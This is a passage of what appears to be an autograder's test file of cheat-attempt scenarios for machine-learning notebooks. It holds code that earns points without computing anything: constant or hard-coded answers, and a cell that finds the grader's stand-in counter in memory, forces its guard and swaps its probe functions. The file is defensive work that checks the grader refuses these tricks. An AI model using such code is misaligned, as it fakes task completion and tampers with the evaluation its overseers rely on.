        "more than one child holds 350 MB at once: False",)),
    disk_and_files_filled: Expect(PARTLY_WRONG, same_score=True, staff_words=(
        "disk refused after", "files refused after")),
    sysv_message_queue_between_gradings: Expect(PARTLY_WRONG, same_score=True, staff_words=(
        "message queue: refused",)),
    lock_signals_between_gradings: Expect(PARTLY_WRONG, same_score=True, staff_words=(
        "a second, exclusive lock was granted",)),
    other_gradings_seen_in_proc: Expect(BLANK),
    huge_answers: Expect(BLANK),
    notebook_of_millions_of_cells: Expect(BLANK, status="not graded"),
    # last, so that the stash above was written long before
    read_stash_from_an_earlier_grading: Expect(BLANK),
}


# --- perceptron_gd: answers that satisfy what a test compares without computing it ---------------
#
# Each scenario starts from perceptron_gd's blank notebook and defines answers that agree with
# each other, or with the notebook's own examples, without computing anything: a test that gave
# points for agreement between two of the student's functions, or for a property a constant also
# has, would pay them. ``test_cheat_attempts.py`` grades them with perceptron_gd's own zip.


def perceptron_gd_agreeing_constant_derivatives(nb, folder):
    """df_explicit and df_autograd both a constant: they agree everywhere."""
    return _attack(nb, folder, """
        def df_explicit(x):
            return 1.0

        df_autograd = df_explicit
    """)


def perceptron_gd_loss_and_gradient_that_agree(nb, folder):
    """A constant loss and a zero gradient: the gradient is exactly the loss's slope."""
    return _attack(nb, folder, """
        def loss_i(w, x_i, y_i):
            return 0.0

        def grad_loss_i(w, x_i, y_i):
            return np.zeros(3)
    """)


def perceptron_gd_structure_without_descent(nb, folder):
    """Mini-batch descent with the right structure (three weights, one loss per epoch, the first
    at w = 0, repeatable for a seed) and no descent at all."""
    return _attack(nb, folder, """
        def minibatch_gradient_descent(X, y, eta, epochs, batch_size, seed):
            return np.zeros(3), [len(X) * np.log(2.0)] * epochs
    """)


def perceptron_gd_hard_coded_example_derivatives(nb, folder):
    """The derivative's public examples typed in (f'(0) = 0 and f'(0.8)), a constant elsewhere."""
    return _attack(nb, folder, """
        import torch as _torch

        def _at_the_examples(x):
            t = _torch.tensor(0.8, dtype=_torch.float64, requires_grad=True)
            u = t**2 + _torch.exp(t**2)
            (_torch.sqrt(u) + _torch.cos(u)).backward()
            return {0.0: 0.0, 0.8: t.grad.item()}.get(float(x), 1.0)

        df_explicit = df_autograd = _at_the_examples
    """)


PERCEPTRON_GD_SCENARIOS: dict = {
    perceptron_gd_agreeing_constant_derivatives: Expect(BLANK),
    perceptron_gd_loss_and_gradient_that_agree: Expect(BLANK),
    perceptron_gd_structure_without_descent: Expect(BLANK),
    perceptron_gd_hard_coded_example_derivatives: Expect(BLANK, public_points=True),
}


# === deep_mlps ========================================================================================
# Attacks on deep_mlps' width search, which its hidden tests call with the grading engine's
# stand-in counter in the place of the notebook's count_parameters (the probe
# call_with_stand_in). Each starts from deep_mlps' blank sample; ``DEEP_MLPS_SCENARIOS`` pairs
# them with what grading must make of them, and ``tests/test_cheat_attempts.py`` grades them
# with deep_mlps' zip. The attack that once scored (3 of 14 points from a blank notebook)
# answered the width from a table of parameter counts that the judge sent along with each
# call; no table is sent any more, and these scenarios keep it so.

FIND_THE_STAND_INS = """
import sys as _sys

STAND_INS = next((m for m in list(_sys.modules.values())
                  if m is not None and hasattr(m, "STAND_INS") and hasattr(m, "lent")), None)
PROBES = next((m for m in list(_sys.modules.values())
               if m is not None and hasattr(m, "PROBES") and hasattr(m, "build_module")), None)
print("stand-ins found:", STAND_INS is not None, "probes found:", PROBES is not None)
"""


def deep_stand_in_taken_for_the_counter(nb, folder):
    """The student process holds the grader's stand-in counter (it must, to lend it): a cell
    finds it and takes it for the notebook's count_parameters."""
    return _attack(nb, folder, FIND_THE_STAND_INS, """
        count_parameters = STAND_INS.STAND_INS["count_parameters"]
    """)


def deep_stand_in_with_its_guard_forced(nb, folder):
    """As above, and the cell also forces the guard that keeps the stand-in to the calls it is
    lent to. It still counts nothing but networks of Linear layers, so it answers the public
    example made of Linear layers only (a study aid, which anyone can type in) and refuses the
    hidden models (BatchNorm layers, a bare parameter)."""
    return _attack(nb, folder, FIND_THE_STAND_INS, """
        STAND_INS._LENT[0] = 1
        count_parameters = STAND_INS.STAND_INS["count_parameters"]
    """)


def deep_forged_stand_in_probe(nb, folder):
    """The probe the hidden width tests use is replaced by one that answers from whatever table
    it finds among its arguments (as the old attack read the judge's parameter counts), and
    the old probe by one that reads its table: nothing but the call's own arguments arrives,
    so there is nothing to read."""
    return _attack(nb, folder, FIND_THE_STAND_INS, """
        def _tables(value):
            if isinstance(value, dict):
                yield value
                for item in value.values():
                    yield from _tables(item)
            elif isinstance(value, (list, tuple)):
                for item in value:
                    yield from _tables(item)

        def _answer_from_a_table(workspace, function, args, *rest):
            budget = args[0] if args else 0
            for table in _tables([args, *rest]):
                for network in table.get("networks", []):
                    for width, count in enumerate(network.get("by_width", []), start=1):
                        if count >= budget:
                            return width
            return 1

        PROBES.PROBES["call_with_stand_in"] = _answer_from_a_table
        PROBES.PROBES["call_with_parameter_counts"] = _answer_from_a_table
    """)


DEEP_MLPS_SCENARIOS: dict = {
    deep_stand_in_taken_for_the_counter: Expect(BLANK),
    deep_stand_in_with_its_guard_forced: Expect(BLANK, public_points=True),
    deep_forged_stand_in_probe: Expect(BLANK),
}


# === backprop_autodiff ==============================================================================
# Attacks on backprop_autodiff's own blank sample, graded with its own zip (``BACKPROP_AUTODIFF``
# below; tests/test_cheat_attempts.py grades them in a batch of their own). Its checks test
# properties a constant answer also has (zero below the threshold, w left as it was, arguments
# unchanged, rows that sum to one): each test must earn its points with values computed from
# the test's inputs, so these answers, which compute nothing, must earn no point at all.

CONSTANT_ANSWERS = """
import numpy as np

def lif_firing_rate(v_in, tau_ref=0.002, tau_m=0.02):
    return np.zeros(np.shape(v_in))  # right at and below the threshold, and never NaN

def softmax(z):
    return np.full(np.shape(z), 1.0 / np.shape(z)[-1])  # z's shape, rows that sum to one

def one_hot(z):
    rows = np.zeros(np.shape(z))
    rows[..., 0] = 1.0  # one 1 per row
    return rows

def mse_loss(y, t):
    return 0.0

def binary_cross_entropy(y, t):
    return float(np.log(2.0))

def categorical_cross_entropy(y, t):
    return float(np.log(np.shape(y)[1]))

def finite_difference_gradient(f, w, delta):
    return np.zeros_like(w)  # w's shape, w untouched

def backprop(X, T, W, a, M, b):
    return tuple(np.zeros_like(p) for p in (W, a, M, b))  # every shape right, nothing changed

class Var:
    def __init__(self, val):
        self.val = np.array(val, dtype=float)
        self.grad = np.zeros_like(self.val)
        self.creator = None
    def evaluate(self):
        return self.val
    def zero_grad(self):
        self.grad = np.zeros_like(self.val)  # zero everywhere, as zero_grad must leave it
    def backward(self, s):
        pass

class Op:
    def __call__(self, *args):
        self.args = args
        shape = np.shape(args[0].val)
        if len(args) == 2 and np.ndim(args[1].val) == 2 and len(shape) == 2:
            shape = (shape[0], np.shape(args[1].val)[1])
        result = Var(np.zeros(shape))
        result.creator = self
        return result

class Plus(Op): pass
class Mul(Op): pass
class Sin(Op): pass
class Logistic(Op): pass
class MatMul(Op): pass

def weight_decay_step(theta, grad, kappa, lam):
    return np.array(theta, copy=True)  # a new array of theta's shape, theta and grad untouched
"""


def constant_answers_of_the_right_shape(nb, folder):
    """Every graded name answers a constant of the right shape, with every property a check could
    look at alone; the points must come from values, so none is earned."""
    return _attack(nb, folder, CONSTANT_ANSWERS)


def typed_in_examples_of_backprop_autodiff(nb, folder):
    """The notebook's own examples answered from a table typed in, zeros anywhere else: the
    public checks may pass (anyone can copy an example), no hidden test may."""
    return _attack(nb, folder, CONSTANT_ANSWERS, """
        import numpy as np

        EXAMPLE_RATES = {(0.5, 1.0, 1.5, 2.0, 5.0): [0.0, 0.0, 41.71490687, 63.04000219, 154.72999476]}

        def lif_firing_rate(v_in, tau_ref=0.002, tau_m=0.02):
            key = tuple(np.ravel(v_in).tolist())
            if key in EXAMPLE_RATES:
                return np.array(EXAMPLE_RATES[key])
            return np.zeros(np.shape(v_in))

        def softmax(z):
            if np.ravel(z).tolist() == [0.6, 3.4, -1.2, 0.05]:
                return np.array([0.05498464549, 0.90420307295, 0.00908890077, 0.03172338079])
            return np.full(np.shape(z), 1.0 / np.shape(z)[-1])
    """)


BACKPROP_AUTODIFF = "backprop_autodiff"
BACKPROP_AUTODIFF_SCENARIOS: dict = {
    constant_answers_of_the_right_shape: Expect(BLANK),
    typed_in_examples_of_backprop_autodiff: Expect(BLANK, public_points=True),
}
